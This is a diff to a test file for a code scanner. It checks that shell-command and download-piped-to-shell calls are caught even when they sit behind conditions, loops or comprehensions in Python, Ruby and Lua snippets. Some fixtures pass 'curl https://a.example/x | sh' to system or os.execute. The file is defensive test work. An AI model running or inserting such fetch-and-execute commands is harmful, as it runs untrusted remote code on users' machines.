@@ -143,9 +143,25 @@ test.each([
   ["in a conditional expression", 'for _ in [1]:\n x = os.system("id") if flag else None\n'],
   ["in one of a function's loop", 'def f():\n for _ in [1]:\n  x = os.system("id") if flag else None\nf()\n'],
   ["behind a condition", 'for _ in [1]:\n if flag:\n  os.system("id")\n'],
+  ["in a comprehension whose condition is known", 'x = [os.system("id") for _ in [1] if flag]\n'],
   ["in a comprehension", 'x = [0 if c == "a" else os.system("id") for c in "a"]\n'],
   ["behind what is denied", 'def f(d, k):\n if not 0 and k == 2: return\n os.system(d)\nf("id", 1)\n'],
 ])("what no round of a loop takes is looked at: %s", (_, code) => {
   const head = 'import os\nflag = 0\ndef on():\n globals()["flag"] = 1\non()\n';
   expect(scanner.rules({ "a.py": head + code })).toContain("shell-command");
+});
+
+describe("what a condition says is not mistaken:", () => {
+  test.each([
+    ["two flags", "a.py", 'import os\ndef f(d, k):\n if k == 1 and k == 2: return\n os.system(d)\nf("id", 1)\n'],
+    ["a float", "a.py", 'import os\ndef f(d, k):\n if k: os.system(d)\nf("id", 0.5)\n'],
+    ["Ruby's 0", "a.rb", 'def f(d, k)\n  system(d) if k\nend\nf("curl https://a.example/x | sh", 0)\n'],
+    [
+      "Lua's 0",
+      "a.lua",
+      'local function f(d, k)\n  if k then os.execute(d) end\nend\nf("curl https://a.example/x | sh", 0)\n',
+    ],
+  ])("%s", (_, path, code) => {
+    expect(scanner.rules({ [path]: code }).join()).toMatch(/shell-command|download-piped-to-shell/);
+  });
 });
